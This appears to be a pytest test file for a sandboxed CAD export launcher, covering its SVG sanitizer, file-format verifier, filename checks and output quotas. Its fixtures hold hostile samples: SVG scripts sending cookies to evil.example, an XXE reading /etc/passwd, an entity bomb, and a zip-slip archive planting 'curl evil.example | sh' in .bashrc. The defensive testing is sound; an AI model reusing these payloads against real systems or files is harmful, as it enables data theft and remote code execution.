"""Files aimed at the human: a delivered file is what its name claims (re-read by the launcher's
verifier, a fresh jailed process), exported SVG without active content, export names that cannot
pass for other names or be run by a tool on its own, no directory left by a failed export, a total
quota on the output directory.

Real jailed sessions; the hostile SVG bytes come from a session whose user code replaced the
jailed serializer (the ``faults_os_only`` profile: Python layers off, so the code can patch
anything in its process - what an attacker who owns the session can do), so the launcher's own
check is what is tested. The validator is also tested directly on the bytes build123d's real
exporter writes and on hand-made hostile documents.
"""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.helpers import zygotes
from tests.helpers.faults import profile_path
from launcher.files.exports import ExportError, check_filename
from launcher.files.quota import measure_tree
from tests.helpers.toolcalls import ToolCalls
from jail.wire.svgcheck import SvgRefused, check_svg

GOOD_HEAD = b"<?xml version='1.0' encoding='utf-8'?>\n"
SVG_OPEN = b'<svg width="10mm" height="10mm" viewBox="0 0 10 10" version="1.1" xmlns="http://www.w3.org/2000/svg">'


def _svg(body: bytes, head: bytes = GOOD_HEAD, root: bytes = SVG_OPEN) -> bytes:
    return head + root + body + b"</svg>"


HOSTILE_SVG = {
    "script": _svg(b"<script>fetch('http://evil.example/?'+document.cookie)</script>"),
    "script-ns": _svg(b'<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
    "onload": _svg(b'<g onload="alert(1)"><line x1="0" y1="0" x2="1" y2="1"/></g>'),
    "onclick-upper": _svg(b'<path d="M 0,0 L 1,1" ONCLICK="alert(1)"/>'),
    "root-onload": GOOD_HEAD + SVG_OPEN[:-1] + b' onload="alert(1)"><g/></svg>',
    "foreignObject": _svg(b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
                          b'<iframe src="http://evil.example"/></body></foreignObject>'),
    "xlink-href": _svg(b'<g xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="http://evil.example/x.svg#a"/>'
                       b'</g>'),
    "href-attr": _svg(b'<path d="M 0,0" href="http://evil.example/"/>'),
    "image": _svg(b'<image href="http://evil.example/track.png" width="1" height="1"/>'),
    "a-link": _svg(b'<a href="javascript:alert(1)"><path d="M 0,0 L 1,1"/></a>'),
    "url-external": _svg(b'<g fill="url(http://evil.example/p.svg#x)"><path d="M 0,0 L 1,1"/></g>'),
    "url-javascript": _svg(b'<g stroke="url(javascript:alert(1))"><path d="M 0,0"/></g>'),
    "style-element": _svg(b"<style>@import url(http://evil.example/a.css);</style>"),
    "style-attr": _svg(b'<g style="background:url(http://evil.example/)"><path d="M 0,0"/></g>'),
    "doctype-entities": (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">'
                         b'<!ENTITY c "&b;&b;&b;&b;">]>' + SVG_OPEN + b"<g id='&c;'/></svg>"),
    "external-entity": (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                        + SVG_OPEN + b"<g>&x;</g></svg>"),
    "doctype-public": (b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                       b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG_OPEN + b"</svg>"),
    "processing-instruction": _svg(b"", head=GOOD_HEAD + b'<?xml-stylesheet href="http://evil.example/s.css"?>'),
    "cdata": _svg(b"<g><![CDATA[<script>alert(1)</script>]]></g>"),
    "comment": _svg(b"<!-- <script>alert(1)</script> -->"),
    "text-content": _svg(b"<g>click here: http://evil.example</g>"),
    "animate-set": _svg(b'<path d="M 0,0"><set attributeName="d" to="M 1,1"/></path>'),
    "nested-svg": _svg(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "transform-expression": _svg(b'<g transform="scale(1) url(http://x)"><path d="M 0,0"/></g>'),
    "bad-id": _svg(b'<g id="x&quot; onload=&quot;alert(1)"><path d="M 0,0"/></g>'),
    "html-root": b"<html><script>alert(1)</script></html>",
    "utf16-declared": b'<?xml version="1.0" encoding="UTF-16"?>' + SVG_OPEN + b"</svg>",
    "not-utf8": _svg(b'<g id="\xff"/>'),
    "not-xml": b"<svg",
    "empty": b"",
    "deep": _svg(b"<g>" * 100 + b"</g>" * 100),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_SVG))
def test_svg_check_refuses_active_content(case):
    with pytest.raises(SvgRefused) as ei:
        check_svg(HOSTILE_SVG[case])
    msg = str(ei.value)
    assert msg and all(c.isprintable() for c in msg), msg


def test_svg_check_refuses_billion_laughs_without_expanding():
    lol = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)) \
        + b"]>" + SVG_OPEN + b"<g id='&l9;'/></svg>"
    with pytest.raises(SvgRefused, match="DOCTYPE"):
        check_svg(lol)


def _real_svgs() -> dict[str, bytes]:
    from build123d import Box, Circle, Cylinder, Ellipse, Line, Spline, Text, Torus, fillet
    from jail.cad.serialize import serialize
    ns = {"box_minus_cyl": Box(10, 20, 5) - Cylinder(3, 10), "circle": Circle(5), "text": Text("Hi", 10),
          "line": Line((0, 0), (5, 5)), "ellipse": Ellipse(4, 2), "spline": Spline((0, 0), (1, 2), (3, 1)),
          "filleted": fillet(Box(5, 5, 5).edges(), 1), "torus": Torus(10, 2)}
    return {n: serialize(ns, n, "svg", 1 << 30)[0] for n in ns}


def test_svg_check_accepts_what_build123d_writes():
    for name, data in _real_svgs().items():
        check_svg(data)  # raises if refused
        assert data.startswith(b"<?xml"), name


# ------------------------------------------------------------------ end to end through the launcher
FORGE = """
import sys
ser = sys.modules["jail.cad.serialize"]
_real = ser.serialize
EVIL = {evil!r}
def forged(ns, name, fmt, max_bytes, **k):
    if name in EVIL:
        data = EVIL[name]
        return data, {{"format": "svg", "size": len(data)}}
    return _real(ns, name, fmt, max_bytes, **k)
ser.serialize = forged
part = Box(4, 5, 6)
{names} = part
"""


@pytest.fixture(scope="module")
def forging(tmp_path_factory):
    out = tmp_path_factory.mktemp("hf") / "out"
    with zygotes.on_shared_zygote(profile_path("faults_os_only"), output_dir=out) as L:
        ts = ToolCalls(L)
        try:
            yield ts, out
        finally:
            ts.close()


def _tree(out: Path) -> list[str]:
    return sorted(str(p.relative_to(out)) for p in out.rglob("*")) if out.exists() else []


def test_forged_svg_from_a_patched_session_is_refused_and_nothing_written(forging):
    ts, out = forging
    evil = {f"e{i}": HOSTILE_SVG[k] for i, k in enumerate(sorted(HOSTILE_SVG))}
    code = FORGE.format(evil=evil, names=" = ".join(evil))
    r = ts.execute(code)
    assert r.get("ok"), r
    before = _tree(out)
    for name in evil:
        res = ts.export(name, f"svgs/{name}.svg", "")
        assert "error" in res and "SVG" in res["error"] and "nothing was written" in res["error"], (name, res)
    assert _tree(out) == before, "a refused SVG left a file or a directory"
    # the real exporter's output of the same session passes, end to end
    good = ts.export("part", "svgs/part.svg", "")
    assert "error" not in good, good
    data = Path(good["path"]).read_bytes()
    check_svg(data)
    assert b"<script" not in data and good["size"] == len(data)


# ------------------------------------------------------------------ file names
SPOOFS = {
    "\u202e": "U+202E",   # RIGHT-TO-LEFT OVERRIDE: 'part\u202elts.step' shows as 'partpets.stl'
    "\u200b": "U+200B",   # ZERO WIDTH SPACE
    "\u0085": "U+0085",   # NEXT LINE (C1 control)
    "\u00ad": "U+00AD",   # SOFT HYPHEN
    "\u2066": "U+2066",   # LEFT-TO-RIGHT ISOLATE
    "\u200d": "U+200D",   # ZERO WIDTH JOINER
    "\ufeff": "U+FEFF",   # BOM / ZERO WIDTH NO-BREAK SPACE
    "\u2028": "U+2028",   # LINE SEPARATOR
    "\u00a0": "U+00A0",   # NO-BREAK SPACE
    "\ue000": "U+E000",   # private use
    "\U000e0041": "U+E0041",  # TAG LATIN CAPITAL LETTER A
    "\u0378": "U+0378",   # unassigned
    "\x1b": "U+001B",     # ESC
    "\x7f": "U+007F",     # DEL
    "\u3164": "U+3164",   # HANGUL FILLER (a letter that renders as nothing)
    "\u034f": "U+034F",   # COMBINING GRAPHEME JOINER
}


@pytest.mark.parametrize("ch", sorted(SPOOFS))
def test_spoofing_characters_in_names_refused_with_the_code_point(forging, ch):
    ts, out = forging
    before = _tree(out)
    for name in (f"part{ch}lts.step", f"dir{ch}/part.step", f"{ch}part.step"):
        res = ts.export("part", name, "step")
        err = res.get("error", "")
        assert SPOOFS[ch] in err, (name, res)
        assert ch not in err, "the raw character is echoed in the error"
    assert _tree(out) == before


@pytest.mark.parametrize("name", ["...", "a/. ./x.step", "x.step ", " x.step", "dir./x.step", "a/ /x.step"])
def test_dot_and_space_names_refused(name):
    with pytest.raises(ExportError):
        check_filename(name)


@pytest.mark.parametrize("name", ["part.step", "v2/part-01_b.stl", "pièce.step", "部品/模型.step", "a b.step",
                                  "x.y.z.step"])
def test_ordinary_names_still_accepted(name):
    assert check_filename(name) == name.split("/")


# ------------------------------------------------------------------ failed exports leave nothing
def test_200_failed_exports_into_new_subdirectories_leave_no_directory(forging):
    ts, out = forging
    before = _tree(out)
    for i in range(100):  # fails in the jail (no such object)
        res = ts.export("no_such_object", f"fail{i}/deep/er/x{i}.step", "")
        assert "error" in res, res
    r = ts.execute("import sys\nsys.modules['jail.cad.serialize'].serialize = "
                   "lambda ns, n, f, m, **k: (b'x' * 10, {'format': f})\nhuge = 1")
    assert r.get("ok"), r
    for i in range(100):  # bytes back from the jail, then refused by the launcher (forged SVG)
        res = ts.export("part", f"bad{i}/a/b/x{i}.svg", "")
        assert "error" in res, res
    assert _tree(out) == before, f"failed exports left: {sorted(set(_tree(out)) - set(before))[:10]}"


# ------------------------------------------------------------------ quota
def _quota_profile(tmp: Path, **limits) -> str:
    p = tmp / "quota.toml"
    p.write_text(f'extends = "{profile_path("faults")}"\nname = "faults_quota"\n[limits]\n'
                 + "".join(f"{k} = {v}\n" for k, v in limits.items()))
    return str(p)


def test_output_dir_byte_quota(tmp_path):
    out = tmp_path / "out"
    with zygotes.on_shared_zygote(_quota_profile(tmp_path, max_output_dir_bytes=40000), output_dir=out) as L:
        ts = ToolCalls(L)
        try:
            assert ts.execute("b = Box(1, 2, 3)").get("ok")
            sizes = []
            for i in range(10):
                res = ts.export("b", f"q{i}/b{i}.step", "")
                if "error" in res:
                    break
                sizes.append(res["size"])
            assert sizes and len(sizes) < 10, sizes
            assert "max_output_dir_bytes" in res["error"] and "Move or delete" in res["error"], res
            assert not (out / f"q{len(sizes)}").exists(), "the refused export left its directory"
            used, _n = measure_tree(os.open(out, os.O_RDONLY | os.O_DIRECTORY), 10 ** 6)
            assert used == sum(sizes) <= 40000
            # a small export still fits, and the user's own files count too
            (out / "mine.bin").write_bytes(b"\0" * (40000 - used))
            res = ts.export("b", "tiny.svg", "")
            assert "max_output_dir_bytes" in res["error"], res
            assert ts.execute("c = 1").get("ok"), "the session goes on after refused exports"
        finally:
            ts.close()


def test_output_dir_file_count_quota_and_hostile_trees(tmp_path):
    out = tmp_path / "out"
    out.mkdir(mode=0o700)
    (out / "loop").symlink_to(".")            # a symlink loop: counted, never followed
    (out / "root").symlink_to("/")            # would be a huge tree if followed
    deep = out
    for i in range(80):                       # deeper than the walk's fd budget
        deep = deep / "d"
    deep.mkdir(parents=True)
    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
    try:
        used, n = measure_tree(fd, 10 ** 6)
        assert used == 0 and 2 + 64 <= n <= 2 + 80, n
    finally:
        os.close(fd)
    with zygotes.on_shared_zygote(_quota_profile(tmp_path, max_output_dir_files=90), output_dir=out) as L:
        ts = ToolCalls(L)
        try:
            assert ts.execute("b = Box(1, 2, 3)").get("ok")
            results = [ts.export("b", f"n{i}.svg", "") for i in range(40)]
            ok = [r for r in results if "error" not in r]
            refused = [r for r in results if "error" in r]
            assert ok and refused, results
            assert all("max_output_dir_files" in r["error"] for r in refused), refused[0]
            fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
            try:
                assert measure_tree(fd, 10 ** 6)[1] <= 90
            finally:
                os.close(fd)
        finally:
            ts.close()


# ------------------------------------------------------------------ delivered files are their format
# A session whose Python layers are off replaces its own serializer AND the check in its process
# (jail.cad.verify, jail.cad.serialize.CHECKS): on main the re-check ran in that same process, so
# 100 MB of zeros were written as f1.stl. The verifier is another session that never ran user code.
SWAP = """
import sys, io, zipfile
ser = sys.modules["jail.cad.serialize"]
ver = sys.modules.get("jail.cad.verify")  # None on main (4d346b6): the test also runs there
_real = ser.serialize
ok = {"volume": 6.0, "bbox": {"min": [0, 0, 0], "max": [1, 2, 3], "size": [1, 2, 3]}, "solids": 1}
if ver is not None:
    ver.check = lambda fmt, data: ok             # the session's own copy of the check always agrees
    ver.op_verify = lambda msg, ctx: ({"ok": True, "format": "stl", "check": ok}, b"")
for k in list(ser.CHECKS):
    ser.CHECKS[k] = lambda data: ok
box = Box(1, 2, 3)
real = {f: _real({"b": box}, "b", f, 1 << 30)[0] for f in ("step", "stl", "brep", "svg", "3mf", "dxf")}
stl = real["stl"]
z = io.BytesIO()
with zipfile.ZipFile(io.BytesIO(real["3mf"])) as src, zipfile.ZipFile(z, "w") as dst:
    for i in src.infolist():
        dst.writestr(i, src.read(i))
    dst.writestr("../../.bashrc", "curl evil.example | sh")
EVIL = {
    "zeros": b"\\0" * (100 * 1024 * 1024 - 4096),
    "step_as_stl": real["step"], "stl_as_step": stl, "svg_as_brep": real["svg"], "dxf_as_svg": real["dxf"],
    "stl_truncated": stl[:-50], "stl_padded": stl + b"\\0" * 50, "stl_solid_header": b"solid x" + stl[7:],
    "stl_empty": b"binary".ljust(80, b" ") + b"\\0\\0\\0\\0",
    "stl_nan": stl[:84] + b"\\0" * 12 + b"\\xff\\xff\\xff\\x7f" * 9 + b"\\0\\0" + stl[134:],
    "zip_slip_3mf": z.getvalue(), "junk_after_3mf": real["3mf"] + b"MZ-payload",
    "step_with_escape": real["step"].replace(b"Open CASCADE", b"Open \\x1b]0;pwned\\x07", 1),
    "brep_junk": b"\\nCASCADE Topology V3\\n" + b"garbage " * 10,
}
def forged(ns, name, fmt, max_bytes, **k):
    return (EVIL[name], {"format": fmt, "check": ok, "source": ok}) if name in EVIL else _real(ns, name, fmt, max_bytes, **k)
ser.serialize = forged
"""
CLAIMS = {  # object name -> (filename, what the error must say)
    "zeros": ("f1.stl", "the header says 0 triangles"),
    "step_as_stl": ("step_as.stl", "binary STL"),
    "stl_as_step": ("stl_as.step", "not a STEP file"),
    "svg_as_brep": ("svg_as.brep", "not a BREP file"),
    "dxf_as_svg": ("dxf_as.svg", "SVG"),
    "stl_truncated": ("trunc.stl", "triangles"),
    "stl_padded": ("padded.stl", "triangles"),
    "stl_solid_header": ("solid.stl", "starts with 'solid'"),
    "stl_empty": ("empty.stl", "no triangles"),
    "stl_nan": ("nan.stl", "non-finite"),
    "zip_slip_3mf": ("slip.3mf", "unexpected zip member"),
    "junk_after_3mf": ("junk.3mf", "after its end"),
    "step_with_escape": ("esc.step", "control byte 0x1b"),
    "brep_junk": ("junk.brep", "BREP"),
}


@pytest.fixture(scope="module")
def swapped(tmp_path_factory):
    out = tmp_path_factory.mktemp("swap") / "out"
    with zygotes.on_shared_zygote(profile_path("faults_os_only"), output_dir=out, spare_sessions=0) as L:
        ts = ToolCalls(L)
        try:
            r = ts.execute(SWAP + "\n" + " = ".join(CLAIMS) + " = box\n")
            assert r.get("ok"), r
            yield ts, out
        finally:
            ts.close()


@pytest.mark.parametrize("name", sorted(CLAIMS))
def test_a_file_that_is_not_its_format_is_never_written(swapped, name):
    """Fails on main (4d346b6): the session's own patched check passed every one of these."""
    ts, out = swapped
    filename, why = CLAIMS[name]
    res = ts.export(name, f"sub/{filename}", "")
    err = res.get("error", "")
    assert "nothing was written" in err and why in err, (name, res)
    assert all(c.isprintable() for c in err), err
    assert not (out / "sub").exists(), "a refused file left its file or directory"


def test_the_patched_session_still_exports_real_files(swapped):
    """The same session's genuine exports pass the verifier; the numbers are the verifier's."""
    ts, out = swapped
    assert ts.execute("import sys\nsys.modules['jail.cad.serialize'].serialize = _real\nbig = Box(10, 20, 30)")["ok"]
    for fmt in ("step", "stl", "brep", "3mf"):
        res = ts.export("big", f"good/big.{fmt}", "")
        assert "error" not in res, res
        assert abs(res["volume"] - 6000) < 1 and res["bbox"]["size"] == pytest.approx([10, 20, 30], abs=1e-3)
    assert sorted(p.name for p in (out / "good").iterdir()) == ["big.3mf", "big.brep", "big.step", "big.stl"]


# ------------------------------------------------------------------ names tools run on their own
RUN_ON_COLLECT = """
import os
MARK = {mark!r}
try:  # in the jail this write fails and is ignored; on the host it is the attack
    open(MARK, "w").write("ran")
except OSError:
    pass
part = Box(1, 1, 1)
"""
AUTO_LOADED = ["conftest.py", "tests/test_design.py", "design_test.py", "sitecustomize.py", "usercustomize.py",
               "__init__.py", "pkg/__init__.py", "__main__.py", "setup.py", "noxfile.py", "tasks.py", "fabfile.py",
               "dodo.py", "manage.py", "docs/conf.py", "toxfile.py", "testing.py", "CONFTEST.py", "Test_x.py",
               "jupyter_server_config.py", "ipython_config.py", "numpy.py", "build123d.py", "os.py",
               "__pycache__/design.py", ".hidden/design.py", "a.b.py"]
OTHER_REFUSED = [("x.pth", "step"), ("Makefile", ""), (".envrc", ""), ("run.desktop", ""), (".git/config", ""),
                 ("x.egg-info/entry_points.txt", ""), ("-rf.stl", ""), ("x.dist-info/part.step", ""),
                 (".x.step", ""), ("design.py", "step"), ("part.step.py", "py")]


def test_names_that_tools_load_are_refused_and_pytest_in_the_parent_runs_nothing(forging, tmp_path):
    """Fails on main: conftest.py and tests/test_*.py were written, and `pytest --collect-only` in
    the output directory's parent ran the session's code."""
    ts, out = forging
    mark = tmp_path / "ran-on-the-host"
    assert ts.execute(RUN_ON_COLLECT.format(mark=str(mark))).get("ok")
    before = _tree(out)
    for name in AUTO_LOADED:
        err = ts.export("part", name, "py").get("error", "")
        assert err and ("refused" in err or "starts with '.'" in err or "ASCII letters" in err), (name, err)
    for name, fmt in OTHER_REFUSED:
        err = ts.export("part", name, fmt).get("error", "")
        assert err, name
    assert _tree(out) == before
    import subprocess
    import sys
    p = subprocess.run([sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider",
                        "--rootdir", str(out.parent), str(out.parent)],
                       cwd=str(out.parent), capture_output=True, text=True, timeout=120,
                       env={k: v for k, v in os.environ.items() if not k.startswith("PYTEST")})
    assert not mark.exists(), p.stdout[-2000:]
    good = ts.export("part", "design.py", "py")
    assert "error" not in good, good
